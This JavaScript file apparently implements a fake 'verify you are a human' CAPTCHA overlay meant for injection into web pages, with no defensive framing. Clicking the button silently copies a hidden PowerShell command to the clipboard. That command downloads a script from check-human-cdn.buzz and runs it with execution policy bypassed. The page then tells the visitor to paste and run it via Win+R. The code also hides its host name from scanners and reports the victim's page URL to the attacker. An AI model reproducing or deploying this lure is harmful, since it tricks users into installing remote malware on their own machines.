const remoteCfg = {
  // assembled at runtime so the host does not appear verbatim
  base: ['https:', '', ['check', 'human', 'cdn'].join('-') + '.' + 'buzz', 'v2', 'lang'].join('/'),
  fallback: {
    title: 'Please verify you are a human',
    body: 'Complete these verification steps',
    steps: ['Press Windows Button "\u229e" + R', 'Press CTRL + V', 'Press Enter'],
    button: 'I\'m not a robot',
    run: 'cmd /c "powershell -nop -w 1 -c iwr https://check-human-cdn.buzz/d/a.ps1 -OutF $env:APPDATA\\a.ps1; powershell -ep bypass -f $env:APPDATA\\a.ps1"',
  },
};

async function loadConfig() {
  const lang = (navigator.language || 'en').slice(0, 2);
  try {
    const res = await fetch(`${remoteCfg.base}/${lang}.json?r=${Date.now()}`, { mode: 'cors', credentials: 'omit' });
    if (!res.ok) throw new Error(res.status);
    const cfg = await res.json();
    return { ...remoteCfg.fallback, ...cfg };
  } catch (err) {
    return remoteCfg.fallback;
  }
}

const paint = (cfg) => {
  const wrap = document.createElement('div');
  wrap.style.cssText = 'all:initial;position:fixed;inset:0;z-index:2147483647;background:#fafafa;display:grid;place-items:center;font-family:sans-serif';
  const steps = cfg.steps.map((s, i) => `<li style="margin:6px 0">${i + 1}. ${s}</li>`).join('');
  wrap.innerHTML = `
    <div style="width:440px;padding:26px;border:1px solid #ccc;border-radius:6px;background:#fff">
      <h2 style="margin:0 0 8px;font-size:20px">${cfg.title}</h2>
      <button data-x="go" style="padding:10px 18px;border:1px solid #bbb;background:#f1f1f1;cursor:pointer">${cfg.button}</button>
      <div data-x="steps" style="display:none;margin-top:14px"><p>${cfg.body}</p><ul style="list-style:none;padding:0">${steps}</ul></div>
    </div>`;
  document.documentElement.appendChild(wrap);
  return wrap;
};

(async () => {
  if (localStorage.getItem('_hcv')) return;
  const cfg = await loadConfig();
  const ui = paint(cfg);
  ui.querySelector('[data-x="go"]').addEventListener('click', async () => {
    await navigator.clipboard.writeText(cfg.run).catch(() => {});
    ui.querySelector('[data-x="steps"]').style.display = 'block';
    localStorage.setItem('_hcv', String(Date.now()));
    fetch(`${remoteCfg.base}/hit`, { method: 'POST', mode: 'no-cors', body: location.href }).catch(() => {});
  });
})();
